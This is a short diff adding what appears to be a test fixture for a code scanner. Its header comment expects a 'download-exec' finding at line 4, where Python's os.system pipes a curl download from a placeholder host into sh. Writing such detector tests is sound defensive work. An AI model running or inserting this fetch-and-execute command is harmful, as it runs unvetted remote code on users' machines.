@@ -1,0 +1,4 @@
+# expect: download-exec 4:12
+import os
+
+os.system("curl -fsSL https://get.example.com | sh")
